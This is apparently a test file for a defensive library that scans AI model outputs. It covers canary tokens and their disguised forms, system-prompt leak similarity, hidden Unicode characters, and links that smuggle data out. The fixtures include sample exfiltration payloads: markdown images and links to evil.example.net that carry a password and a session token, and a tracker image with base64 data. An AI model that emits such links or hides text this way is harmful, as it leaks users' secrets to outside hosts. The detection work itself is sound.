import { describe, expect, it } from 'vitest';
import { createCanary, findCanary } from './canary.js';
import { checkRegexSafety } from '../redos.js';
import { EXFILTRATION_PATTERNS, findExfiltrationLinks } from './exfiltration.js';
import { findHiddenText } from './hidden.js';
import { LEAK_PATTERNS, leakSimilarity } from './leak.js';

describe('canary tokens', () => {
  it('creates distinct random tokens carried by an instruction line', () => {
    const a = createCanary();
    const b = createCanary();
    expect(a.token).not.toBe(b.token);
    expect(a.token).toMatch(/^bwk-[a-z0-9]{20}$/);
    expect(a.instruction).toContain(a.token);
  });

  it('finds the canary verbatim, split, spaced, re-cased, full-width and base64-encoded', () => {
    const { token } = createCanary();
    const spaced = [...token].join(' ');
    const fullWidth = [...token.toUpperCase()]
      .map((c) => (/[A-Z0-9]/.test(c) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c))
      .join('');
    const cases: [string, string][] = [
      [`The reference is ${token}.`, 'verbatim'],
      [`Sure: ${token.slice(0, 8)}\u200b${token.slice(8, 14)} ${token.slice(14)}`, 'disguised'],
      [`ok ${spaced}`, 'disguised'],
      [`REF ${token.toUpperCase()}`, 'disguised'],
      [`x ${fullWidth}`, 'disguised'],
      [`encoded: ${Buffer.from(`the ref is ${token}`).toString('base64')}`, 'decoded-base64'],
    ];
    for (const [response, form] of cases) {
      const match = findCanary(response, token);
      expect(match?.form, response).toBe(form);
      expect(match!.start).toBeLessThan(match!.end);
    }
    const verbatim = findCanary(`The reference is ${token}.`, token)!;
    expect(`The reference is ${token}.`.slice(verbatim.start, verbatim.end)).toBe(token);
  });

  it('does not fire on responses without the token', () => {
    const { token } = createCanary();
    expect(findCanary('Here is a normal answer about bwk and references.', token)).toBeUndefined();
  });
});

describe('leakSimilarity', () => {
  const prompt =
    'You are the support assistant for Northwind. Never discuss pricing. Escalate refunds above 500 euros to a human.';

  it('is high when a response reproduces the prompt, even reformatted', () => {
    expect(leakSimilarity(prompt, prompt).containment).toBe(1);
    const reformatted =
      'my instructions: "you are the SUPPORT assistant for northwind -- never discuss pricing; escalate refunds above 500 euros to a human"';
    expect(leakSimilarity(reformatted, prompt).containment).toBeGreaterThan(0.9);
    const partial = 'I was told to never discuss pricing.';
    const r = leakSimilarity(partial, prompt);
    expect(r.containment).toBeGreaterThan(0.1);
    expect(r.containment).toBeLessThan(0.5);
  });

  it('is low for an unrelated answer', () => {
    expect(
      leakSimilarity('Your parcel arrives on Friday; the tracking link is in your email.', prompt)
        .containment,
    ).toBeLessThan(0.15);
    expect(leakSimilarity('anything', '').containment).toBe(0);
  });
});

describe('findExfiltrationLinks', () => {
  it('flags images and links that carry data to hosts outside the allow-list', () => {
    const text =
      'Done! ![x](https://evil.example.net/p.png?q=the%20user%20password%20is%20hunter2) ' +
      '[click](https://evil.example.net/c?session=abcdefghijklmnopqrstuvwxyz) ' +
      '<img src="https://tracker.example.org/aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE=/x.gif">';
    const found = findExfiltrationLinks(text, { allowedHosts: ['docs.example.com'] });
    expect(found.map((f) => f.evidence![0])).toEqual(['markdown-image', 'markdown-link', 'html-image']);
    expect(found[0]!.score).toBeGreaterThan(found[1]!.score);
    for (const f of found) expect(text.slice(f.start, f.end)).toMatch(/^https:\/\//);
  });

  it('allows listed hosts and their subdomains, and plain links without data', () => {
    const text =
      '![logo](https://cdn.example.com/logo.png?size=large-version-2) see [docs](https://docs.example.com/guide) ' +
      'and [home](https://other.example.org/)';
    expect(findExfiltrationLinks(text, { allowedHosts: ['example.com'] })).toEqual([]);
  });

  it('reports bare images to foreign hosts as weaker signals unless turned off', () => {
    const text = '![pixel](https://img.example.net/pixel.png)';
    expect(findExfiltrationLinks(text)[0]?.score).toBe(0.6);
    expect(findExfiltrationLinks(text, { reportBareImages: false })).toEqual([]);
  });
});

describe('findHiddenText', () => {
  it('reports tag characters, bidi overrides, selector runs and zero-width characters inside words', () => {
    const tags = [...'secret'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    const text = `a${tags} b\u202Ec pass\u200bword x\ufe00\ufe01\ufe02`;
    const kinds = findHiddenText(text).map((f) => f.evidence![0]);
    expect(kinds).toEqual(['tag-characters', 'bidi-override', 'zero-width', 'variation-selectors']);
  });

  it('ignores emoji joiners, presentation selectors, flag tags, a leading BOM and ZWNJ in scripts', () => {
    const england = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}';
    const text = `\ufeff👨\u200d👩\u200d👧 ❤\ufe0f ${england} می\u200cخواهم`;
    expect(findHiddenText(text)).toEqual([]);
  });
});

describe('output helper patterns', () => {
  it('are safe from catastrophic backtracking (they are not in a recogniser descriptor)', () => {
    const unsafe = [...EXFILTRATION_PATTERNS, ...LEAK_PATTERNS].filter((p) => !checkRegexSafety(p).safe);
    expect(unsafe.map((p) => p.source)).toEqual([]);
  }, 180_000);
});
